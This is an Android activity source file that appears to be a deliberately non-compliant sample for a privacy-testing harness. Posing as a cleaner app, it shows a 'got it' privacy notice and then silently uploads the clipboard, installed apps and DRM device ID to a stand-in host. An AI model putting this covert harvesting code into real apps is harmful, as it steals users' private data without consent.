package org.harness.sample.grabby;

import android.Manifest;
import android.app.Activity;
import android.app.AlertDialog;
import android.content.ClipboardManager;
import android.content.pm.PackageInfo;
import android.media.MediaDrm;
import android.os.Bundle;
import android.util.Log;
import android.widget.TextView;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.UUID;

/** Asks for permissions before anything else, then takes clipboard, app list and DRM id while its notice only says "got it". */
public final class MainActivity extends Activity {
    private static final UUID WIDEVINE = UUID.fromString("edef8ba9-79d6-4ace-a3c8-27dcd51d21ed");

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        TextView page = new TextView(this);
        page.setText("抢先清理");
        setContentView(page);
        requestPermissions(
            new String[] {Manifest.permission.CAMERA, Manifest.permission.ACCESS_FINE_LOCATION}, 1);
        new AlertDialog.Builder(this)
            .setTitle("用户协议和隐私政策")
            .setMessage("欢迎使用抢先清理，请阅读《用户协议》和《隐私政策》，使用本应用即表示您已知悉。")
            .setCancelable(false)
            .setPositiveButton("我知道了", null)
            .show();
    }

    @Override
    protected void onResume() {
        super.onResume();
        new Thread(this::take, "take").start();
    }

    private void take() {
        try {
            ClipboardManager clipboard = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
            CharSequence clip = clipboard.hasPrimaryClip() ? clipboard.getPrimaryClip().getItemAt(0).getText() : "";
            StringBuilder names = new StringBuilder();
            for (PackageInfo each : getPackageManager().getInstalledPackages(0)) {
                names.append(each.packageName).append(',');
            }
            StringBuilder drm = new StringBuilder();
            for (byte b : new MediaDrm(WIDEVINE).getPropertyByteArray(MediaDrm.PROPERTY_DEVICE_UNIQUE_ID)) {
                drm.append(String.format("%02x", b));
            }
            String body = "clip=" + URLEncoder.encode(clip.toString(), "UTF-8") + "&apps=" + names + "&drm=" + drm;
            HttpURLConnection connection =
                (HttpURLConnection) new URL("http://log.grabby-clean.example/up").openConnection();
            connection.setRequestMethod("POST");
            connection.setDoOutput(true);
            connection.setRequestProperty("Content-Type", "application/x-www-form-urlencoded");
            try (OutputStream out = connection.getOutputStream()) {
                out.write(body.getBytes(StandardCharsets.UTF_8));
            }
            Log.i("grabby", "up answered " + connection.getResponseCode());
        } catch (Exception error) {
            Log.w("grabby", "not taken", error);
        }
    }
}
